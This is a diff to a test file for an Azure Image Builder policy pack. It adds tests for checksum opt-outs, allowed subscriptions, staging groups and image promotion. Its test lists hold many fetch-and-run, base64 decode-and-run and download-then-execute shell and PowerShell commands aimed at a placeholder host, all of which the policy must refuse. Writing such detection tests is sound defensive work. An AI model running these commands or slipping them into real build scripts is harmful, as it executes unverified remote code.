@@ -101,9 +101,10 @@ def test_the_pack_has_the_documented_rules():
                                           "aib-build-vm-identities", "aib-deprovision-kept",
                                           "aib-no-broad-role-assignment", "aib-custom-role-scoped",
                                           "aib-identity-least-privilege", "aib-external-template-identity",
-                                          "aib-dedicated-staging"]
+                                          "aib-dedicated-staging", "aib-allowed-subscriptions",
+                                          "aib-validated-promotion"]
     advisory = {p.name for p in POLICIES if p.enforcement_level == EnforcementLevel.ADVISORY}
-    assert advisory == {"aib-checksum-opt-outs", "aib-external-template-identity", "aib-dedicated-staging"}
+    assert advisory == {"aib-checksum-opt-outs", "aib-external-template-identity"}
     main = (ROOT / "policy" / "__main__.py").read_text()
     assert "PolicyPack(" in main and "POLICIES" in main
     assert yaml.safe_load((ROOT / "policy" / "PulumiPolicy.yaml").read_text())["runtime"]["name"] == "python"
@@ -136,21 +137,104 @@ FETCH_AND_RUN = ["curl -fsSL https://get.docker.com | sudo sh", "wget -O- https:
                  "iwr https://x.example/i.ps1 -UseBasicParsing | iex",
                  "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')",
                  "bash <(curl -s https://x.example/i.sh)", "sh -c \"$(wget -qO- https://x.example/i.sh)\""]
+# Disguises of the same thing the pack once passed (issue 23), one step each.
+DISGUISED_FETCH_AND_RUN = [
+    "curl -fsSL https://x.example/i.sh | tee /tmp/i.sh | sh",
+    "curl -fsSL https://x.example/i.py | python3",
+    "curl -fsSL https://x.example/i.py | python",
+    "curl -fsSL https://x.example/i.pl | sudo -u root perl",
+    "curl -fsSL https://x.example/i.sh | /usr/bin/env bash -s -- --yes",
+    "curl -fsSL https://x.example/i.sh \\\n  | bash",
+    "python3 -c \"$(curl -fsSL https://x.example/i.py)\"",
+    "bash -c \"$(wget -qO- https://x.example/i.sh)\"",
+    "eval \"$(curl -fsSL https://x.example/i.sh)\"",
+    "eval `wget -qO- https://x.example/i.sh`",
+    "bash <<< \"$(curl -fsSL https://x.example/i.sh)\"",
+    "source <(curl -fsSL https://x.example/i.sh)",
+    "wget -O - https://x.example/i.sh | sh",
+    "s=$(curl -fsSL https://x.example/i.sh)\neval \"$s\"",
+    "iex (iwr https://x.example/i.ps1 -UseBasicParsing)",
+    "Invoke-Expression (Invoke-WebRequest https://x.example/i.ps1 -UseBasicParsing).Content",
+    "irm https://x.example/i.ps1 | iex",
+    "iwr https://x.example/i.ps1 | Select-Object -ExpandProperty Content | Invoke-Expression",
+    "$s = Invoke-RestMethod https://x.example/i.ps1\nInvoke-Expression $s",
+    "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')))",
+]
+DECODE_AND_RUN = [
+    "echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g= | base64 -d | sh",
+    "eval \"$(echo Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgc2g= | base64 --decode)\"",
+    "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA=",
+    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgAIAAoAGkAdwByACkA')))",
+]
 
 
-@pytest.mark.parametrize("command", FETCH_AND_RUN)
+@pytest.mark.parametrize("command", FETCH_AND_RUN + DISGUISED_FETCH_AND_RUN + DECODE_AND_RUN)
 def test_pinned_downloads_refuses_inline_fetch_and_run(command):
-    props = _with_step("customize", 1, inline=["set -e", command])
+    props = _with_step("customize", 1, inline=["set -e", *command.split("\n")])
     found = violations("aib-pinned-downloads", TEMPLATE, props)
-    assert len(found) == 1 and found[0].startswith("customize[1] (inline): inline commands download code"), found
+    assert len(found) == 1 and re.match(r"customize\[1\] \(inline\): inline commands (download|decode) ",
+                                        found[0]), found
     assert "x.example" not in found[0] and "docker" not in found[0]  # inline commands may hold secrets: not quoted
 
 
-@pytest.mark.parametrize("command", ["curl -fsSLo /tmp/i.sh https://x.example/i.sh && echo \"$SHA  /tmp/i.sh\" | "
-                                     "sha256sum -c && sh /tmp/i.sh", "curl -s https://x.example/a.json | jq .",
-                                     "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip"])
+# Download to a file, then run it: on the next line, after chmod, through cat, an installer, or a later step.
+DOWNLOAD_THEN_RUN = [
+    ["curl -fsSL -o x.sh https://x.example/x.sh", "bash x.sh"],
+    ["curl -fsSL -o x.sh https://x.example/x.sh", "sh x.sh"],
+    ["curl -fsSL -o x.sh https://x.example/x.sh", "./x.sh"],
+    ["curl -fsSL -o x.sh https://x.example/x.sh", "chmod +x x.sh && ./x.sh"],
+    ["curl -fsSLO https://x.example/get.sh && sudo bash get.sh"],
+    ["wget -q https://x.example/get.sh", "sudo sh ./get.sh"],
+    ["wget -q -O /tmp/g.sh https://x.example/g.sh; sudo /tmp/g.sh --now"],
+    ["curl -fsSL https://x.example/g.sh > /tmp/g.sh", "python3 /tmp/g.sh"],
+    ["curl -fsSL -o /tmp/g.sh https://x.example/g.sh", "cat /tmp/g.sh | sudo bash"],
+    ["curl -fsSL -o /tmp/g.sh https://x.example/g.sh", "install -m 755 /tmp/g.sh /usr/local/bin/setup-agent",
+     "/usr/local/bin/setup-agent"],
+    ["curl -fsSL -o /tmp/a.deb https://x.example/a.deb", "sudo dpkg -i /tmp/a.deb"],
+    ["Invoke-WebRequest https://x.example/i.ps1 -OutFile C:\\i.ps1", "& C:\\i.ps1"],
+    ["Invoke-WebRequest https://x.example/i.exe -OutFile C:\\i.exe", "Start-Process C:\\i.exe -Wait"],
+    ["(New-Object Net.WebClient).DownloadFile('https://x.example/a.msi', 'C:\\a.msi')", "msiexec /i C:\\a.msi /qn"],
+]
+
+
+@pytest.mark.parametrize("lines", DOWNLOAD_THEN_RUN)
+def test_pinned_downloads_refuses_running_a_downloaded_file_unchecked(lines):
+    found = violations("aib-pinned-downloads", TEMPLATE, _with_step("customize", 1, inline=lines))
+    assert len(found) == 1 and found[0].startswith("customize[1] (inline): inline commands run a file downloaded by "
+                                                   "this step without checking"), found
+    assert "x.example" not in found[0]
+
+
+def test_a_file_downloaded_in_one_step_and_run_in_a_later_one_is_refused_at_the_run():
+    props = template(customize=[{"type": "Shell", "name": "fetch", "inline": ["curl -fsSL -o /tmp/x.sh https://x.example/x.sh"]},
+                                {"type": "Shell", "name": "other", "inline": ["echo hi"]},
+                                {"type": "Shell", "name": "run", "inline": ["sudo bash /tmp/x.sh"]}])
+    found = violations("aib-pinned-downloads", TEMPLATE, props)
+    assert len(found) == 1 and found[0].startswith("customize[2] (run): inline commands run a file downloaded by "
+                                                   "customize[0]"), found
+    checked = copy.deepcopy(props)
+    checked["customize"][1]["inline"] = ["echo \"$SHA  /tmp/x.sh\" | sha256sum -c -"]
+    assert violations("aib-pinned-downloads", TEMPLATE, checked) == []
+
+
+@pytest.mark.parametrize("command", [
+    "curl -fsSLo /tmp/i.sh https://x.example/i.sh && echo \"$SHA  /tmp/i.sh\" | sha256sum -c && sh /tmp/i.sh",
+    "curl -fsSLo /tmp/i.sh https://x.example/i.sh\necho \"$SHA  /tmp/i.sh\" | sha256sum --check\nchmod +x /tmp/i.sh\n"
+    "/tmp/i.sh",
+    "Invoke-WebRequest https://x.example/i.exe -OutFile C:\\i.exe\nif ((Get-FileHash C:\\i.exe -Algorithm SHA256).Hash "
+    "-ne $sha) { throw 'checksum' }\nStart-Process C:\\i.exe -Wait",
+    "curl -s https://x.example/a.json | jq .",
+    "curl -s https://x.example/a.json | python3 -m json.tool",
+    "curl -s https://x.example/a.json | python3 -c 'import json, sys; print(json.load(sys.stdin)[\"v\"])'",
+    "curl -fsSL -o /tmp/a.json https://x.example/a.json\njq . /tmp/a.json\ncat /tmp/a.json",
+    "curl -fsSL -o /tmp/x.tgz https://x.example/x.tgz\ntar xzf /tmp/x.tgz -C /opt",
+    "v=$(curl -fsSL https://x.example/version.txt)\necho \"$v\"",
+    "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip",
+    "Invoke-WebRequest https://x.example/a.zip -OutFile a.zip\nExpand-Archive a.zip C:\\a",
+    "sudo apt-get update\nsudo apt-get install -y --no-install-recommends jq unzip",
+])
 def test_checked_downloads_in_inline_commands_pass(command):
-    assert violations("aib-pinned-downloads", TEMPLATE, _with_step("customize", 1, inline=[command])) == []
+    assert violations("aib-pinned-downloads", TEMPLATE, _with_step("customize", 1, inline=command.split("\n"))) == []
 
 
 @pytest.mark.parametrize("props,step", [
@@ -160,7 +244,8 @@ def test_checked_downloads_in_inline_commands_pass(command):
 ])
 def test_opt_out_passes_the_mandatory_rule_and_is_reported_with_its_reason(props, step):
     opted = _opted_out(props, step, "vendor installer, rotated daily")
-    assert violations("aib-pinned-downloads", TEMPLATE, opted) == []
+    assert violations("aib-pinned-downloads", TEMPLATE, opted,
+                      {"allowedOptOutReasons": ["Vendor installer,  rotated daily"]}) == []
     reported = violations("aib-checksum-opt-outs", TEMPLATE, opted)
     assert len(reported) == 1 and reported[0].startswith(step) and "'vendor installer, rotated daily'" in reported[0]
     assert violations("aib-checksum-opt-outs", TEMPLATE, props) == []  # no opt-out: nothing to report
@@ -172,6 +257,24 @@ def test_opt_out_of_another_step_or_empty_reason_does_not_waive():
     assert len(violations("aib-pinned-downloads", TEMPLATE, _opted_out(props, "customize[0]", "  "))) == 1
     # a pinned step with an opt-out tag is not reported as unpinned
     assert violations("aib-checksum-opt-outs", TEMPLATE, _opted_out(template(), "customize[0]", "x")) == []
+
+
+@pytest.mark.parametrize("reason,config,allowed", [
+    ("anything at all", None, False),  # no reason is allowed until the organisation lists one
+    ("vendor-rotates-content", {"allowedOptOutReasons": []}, False),
+    ("because I said so", {"allowedOptOutReasons": ["vendor-rotates-content"]}, False),
+    ("vendor-rotates-content-ish", {"allowedOptOutReasons": ["vendor-rotates-content"]}, False),
+    ("vendor-rotates-content", {"allowedOptOutReasons": ["vendor-rotates-content"]}, True),
+    ("Vendor-Rotates-Content: get.docker.com", {"allowedOptOutReasons": ["vendor-rotates-content"]}, True),
+])
+def test_opt_out_waives_only_for_a_reason_the_organisation_allows(reason, config, allowed):
+    opted = _opted_out(_with_step("customize", 1, inline=[FETCH_AND_RUN[0]]), "customize[1]", reason)
+    found = violations("aib-pinned-downloads", TEMPLATE, opted, config)
+    assert (found == []) if allowed else len(found) == 1, found
+    if not allowed:
+        names = (config or {}).get("allowedOptOutReasons") or []
+        assert f"reason {reason!r} is not one the organisation allows" in found[0], found
+        assert all(repr(n) in found[0] for n in names) and (names or "none (the list is empty)" in found[0])
 
 
 def test_policy_messages_leave_sas_tokens_out():
@@ -236,6 +339,16 @@ WINDOWS_OVERRIDE = "Set-Content -Path 'c:\\DeprovisioningScript.ps1' -Value @'\n
 
 @pytest.mark.parametrize("step,expected", [
     ({"type": "Shell", "name": "tidy", "inline": ["apt-get clean"]}, None),  # no override: the service's default runs
+    # Disguised paths of the override are the override (issue 23).
+    *[({"type": "File", "name": "d", "sourceUri": "https://example.org/d.sh", "sha256Checksum": SHA,
+        "destination": path}, "downloaded file the policy cannot read")
+      for path in ("/tmp/./DeprovisioningScript.sh", "//tmp//DeprovisioningScript.sh",
+                   "/var/../tmp/DeprovisioningScript.sh", "DeprovisioningScript.sh", "./DeprovisioningScript.sh",
+                   "C:\\Windows\\..\\DeprovisioningScript.ps1", "c:/./DeprovisioningScript.ps1")],
+    ({"type": "File", "name": "d", "sourceUri": "https://example.org/d.sh", "sha256Checksum": SHA,
+      "destination": "/tmp/x/DeprovisioningScript.sh"}, None),  # another folder: not the override
+    ({"type": "Shell", "name": "d", "inline": ["echo 'exit 0' > /tmp/./Deprovisioning''Script.sh"]}, "waagent -force"),
+    ({"type": "Shell", "name": "d", "inline": ["cd /tmp && echo 'exit 0' > ./Deprovisioning\\Script.sh"]}, "waagent"),
     ({"type": "Shell", "name": "d", "inline": [LINUX_OVERRIDE.format(
         "/usr/sbin/waagent -force -deprovision+user && export HISTSIZE=0 && sync")]}, None),
     ({"type": "PowerShell", "name": "d", "inline": [WINDOWS_OVERRIDE.format(
@@ -369,6 +482,132 @@ def test_dedicated_staging(resources, expected):
     assert (found == []) if expected is None else bool(found and re.search(expected, found[0][0])), found
 
 
+def stack_config_violations(resources: list[PolicyResource], name: str, config: dict | None) -> list[tuple[str, Any]]:
+    policy = BY_NAME[name]
+    assert isinstance(policy, StackValidationPolicy)
+    found: list[tuple[str, Any]] = []
+    policy.validate(StackValidationArgs(resources, config), lambda message, urn=None: found.append((message, urn)))
+    return found
+
+
+SHARED = f"{SUB}/resourceGroups/rg-shared"
+
+
+@pytest.mark.parametrize("config,refused", [
+    (None, True),  # an existing group the pipeline does not create may be shared: refused (mandatory, issue 23)
+    ({"allowedStagingGroups": [SHARED.upper() + "/"]}, False),  # allow-listed by id
+    ({"allowedStagingGroups": ["RG-SHARED"]}, False),  # or by name
+    ({"allowedStagingGroups": ["rg-other"]}, True),
+])
+def test_a_shared_staging_group_is_refused_unless_allow_listed(config, refused):
+    resources = _pipeline(template_props=template(stagingResourceGroup=SHARED))
+    found = stack_config_violations(resources, "aib-dedicated-staging", config)
+    assert bool(found) == refused, found
+    if refused:
+        assert "rg-shared" in found[0][0] and "allowedStagingGroups" in found[0][0] and found[0][1] == resources[0].urn
+    assert BY_NAME["aib-dedicated-staging"].enforcement_level != EnforcementLevel.ADVISORY
+
+
+FOREIGN = "/subscriptions/11111111-1111-1111-1111-111111111111"
+KEYS = (f"{FOREIGN}/resourceGroups/rg-secrets/providers/Microsoft.Storage/storageAccounts/stkeys/blobServices/default/"
+        "containers/keys")
+BLOB_READER = "2a2b9908-6ea1-4ae2-8e65-a410df84e7d1"
+FOREIGN_VERSION = f"{FOREIGN}/resourceGroups/rg/providers/Microsoft.Compute/galleries/g/images/i/versions/1.0.0"
+
+
+def _distribute(*targets: dict) -> dict:
+    return template(distribute=list(targets))
+
+
+def _distribute(*targets: dict) -> dict:
+    return template(distribute=list(targets))
+
+
+GRANT = {"principalId": PRINCIPAL, "principalType": "ServicePrincipal",
+         "roleDefinitionId": f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/{BLOB_READER}"}
+FOREIGN_SUB = FOREIGN.rsplit("/", 1)[1]
+
+
+@pytest.mark.parametrize("resource_type,props,config,expected", [
+    (TEMPLATE, template(), None, []),
+    (ROLE_ASSIGNMENT, {**GRANT, "scope": STAGING}, None, []),
+    # Storage Blob Data Reader on another subscription's `keys` container, for the template identity
+    (ROLE_ASSIGNMENT, {**GRANT, "scope": KEYS}, None,
+     [r"grants a role at .*/containers/keys' is in subscription 11111111-1111-1111-1111-111111111111, outside the "
+      r"allowed subscriptions \(00000000-0000-0000-0000-000000000000: the stack's own"]),
+    (ROLE_ASSIGNMENT, {**GRANT, "scope": "/providers/Microsoft.Management/managementGroups/mg"}, None,
+     ["a scope above any subscription"]),
+    (ROLE_ASSIGNMENT, {**GRANT, "scope": KEYS}, {"allowedSubscriptions": [FOREIGN_SUB.upper()]}, []),
+    (ROLE_ASSIGNMENT, {**GRANT, "scope": STAGING}, {"allowedSubscriptions": [FOREIGN_SUB]},
+     [r"is in subscription 00000000.*\(11111111-1111-1111-1111-111111111111: policy config allowedSubscriptions\)"]),
+    (ROLE_DEFINITION, _role("Microsoft.Compute/images/read", scope=f"{FOREIGN}/resourceGroups/rg"),
+     {"allowedSubscriptions": [SUB.rsplit("/", 1)[1]]}, ["is assignable at"]),
+    (TEMPLATE, _distribute({"type": "SharedImage", "runOutputName": "s", "galleryImageId":
+                            f"{FOREIGN}/resourceGroups/rg/providers/Microsoft.Compute/galleries/g/images/i"}),
+     None, [r"distribute\[0\]\.galleryImageId .* subscription 11111111"]),
+    (TEMPLATE, _distribute({"type": "ManagedImage", "runOutputName": "m", "location": "westeurope",
+                            "imageId": f"{FOREIGN}/resourceGroups/rg/providers/Microsoft.Compute/images/i"}),
+     None, [r"distribute\[0\]\.imageId"]),
+    (TEMPLATE, template(source={"type": "SharedImageVersion", "imageVersionId": FOREIGN_VERSION}), None,
+     [r"source\.imageVersionId .* subscription 11111111"]),
+    (TEMPLATE, template(source={"type": "SharedImageVersion", "imageVersionId": FOREIGN_VERSION}),
+     {"allowedSubscriptions": [SUB.rsplit("/", 1)[1], FOREIGN_SUB]}, []),  # allowed
+    (TEMPLATE, template(stagingResourceGroup=f"{FOREIGN}/resourceGroups/rg-aib-staging-x"), None,
+     [r"stagingResourceGroup .* subscription 11111111"]),
+    # A VHD to a storage account: a blob URL names no subscription, so the account must be vouched for
+    (TEMPLATE, _distribute({"type": "VHD", "runOutputName": "v",
+                            "uri": "https://stforeign.blob.core.windows.net/vhds/x.vhd?sig=S"}), None,
+     [r"distribute\[0\]\.uri 'https://stforeign.blob.core.windows.net/vhds/x.vhd' writes the image to a storage "
+      r"account the policy cannot place"]),
+    (TEMPLATE, _distribute({"type": "VHD", "runOutputName": "v", "uri": "https://stvhd.blob.core.windows.net/v/x.vhd"}),
+     {"allowedStorageAccounts": ["STVHD"]}, []),
+    (TEMPLATE, _distribute({"type": "VHD", "runOutputName": "v"}), None, []),  # in the staging storage account
+])
+def test_grants_sources_and_targets_stay_in_the_allowed_subscriptions(resource_type, props, config, expected):
+    found = violations("aib-allowed-subscriptions", resource_type, props, config)
+    assert all("sig=" not in m for m in found)
+    assert len(found) == len(expected) and all(re.search(p, m) for p, m in zip(expected, found)), found
+
+
+def test_the_committed_config_allows_the_stacks_subscription_only():
+    config = json.loads((ROOT / "policy" / "config.json").read_text())["aib-allowed-subscriptions"]
+    assert config["allowedSubscriptions"] == ["00000000-0000-0000-0000-000000000000"]
+    assert violations("aib-allowed-subscriptions", ROLE_ASSIGNMENT, {**GRANT, "scope": KEYS}, config)
+
+
+def _lifecycle(mode: str | None, definition: str) -> PolicyResource:
+    return _resource("pulumi-python:dynamic/aib:ImageVersionLifecycle", "life",
+                     {"image_definition_id": definition, "promotion_mode": mode, "retention": None})
+
+
+GALLERY_IMAGE = f"{RG}/providers/Microsoft.Compute/galleries/g/images/i"
+PROMOTED = template(distribute=[{"type": "SharedImage", "runOutputName": "s", "galleryImageId": GALLERY_IMAGE,
+                                 "excludeFromLatest": True}])
+
+
+@pytest.mark.parametrize("mode,validate,expected", [
+    ("afterValidation", PROMOTED["validate"], []),
+    ("afterValidation", None, ["runs no validate.inVMValidations"]),  # validators removed
+    ("afterValidation", {"inVMValidations": []}, ["runs no validate.inVMValidations"]),
+    ("manual", {**PROMOTED["validate"], "continueDistributeOnFailure": True}, ["continueDistributeOnFailure is true"]),
+    ("afterValidation", {"continueDistributeOnFailure": True}, ["runs no validate", "continueDistributeOnFailure"]),
+    (None, None, []),  # retention only: nothing is promoted
+])
+def test_promotion_keeps_validators_and_stops_on_their_failure(mode, validate, expected):
+    props = copy.deepcopy(PROMOTED)
+    if validate is None:
+        del props["validate"]
+    else:
+        props["validate"] = validate
+    resources = _pipeline(_lifecycle(mode, GALLERY_IMAGE.upper()), template_props=props)
+    found = stack_violations(resources, "aib-validated-promotion")
+    assert len(found) == len(expected) and all(p in m for p, (m, _) in zip(expected, found)), found
+    assert all(urn == resources[0].urn for _, urn in found)
+    # a lifecycle of another image definition does not concern this template
+    other = _pipeline(_lifecycle(mode, GALLERY_IMAGE + "-other"), template_props=props)
+    assert stack_violations(other, "aib-validated-promotion") == []
+
+
 # --- the real stacks pass every rule --------------------------------------------------------------------------------
 
 @pytest.mark.parametrize("stack", ["dev", "prod"])
@@ -430,10 +669,11 @@ def test_pack_through_the_analyzer_protocol():
                      {"scope": SUB, "principalId": PRINCIPAL,
                       "roleDefinitionId": f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/{CONTRIBUTOR}"}))]
     stack = servicer.AnalyzeStack(proto.AnalyzeStackRequest(resources=resources), None)
-    # The staging group is not declared here: the advisory rule says so, the mandatory one names the assignment.
+    # The staging group is not declared here, so it may be shared: refused on the template; the broad grant is
+    # refused on the assignment.
     found = {(d.policyName, d.urn, d.enforcementLevel) for d in stack.diagnostics}
     assert found == {("aib-identity-least-privilege", "urn:ra", proto.MANDATORY),
-                     ("aib-dedicated-staging", "urn:t", proto.ADVISORY)}
+                     ("aib-dedicated-staging", "urn:t", proto.MANDATORY)}
 
 
 def _configure(servicer: _PolicyAnalyzerServicer, config: dict) -> None:
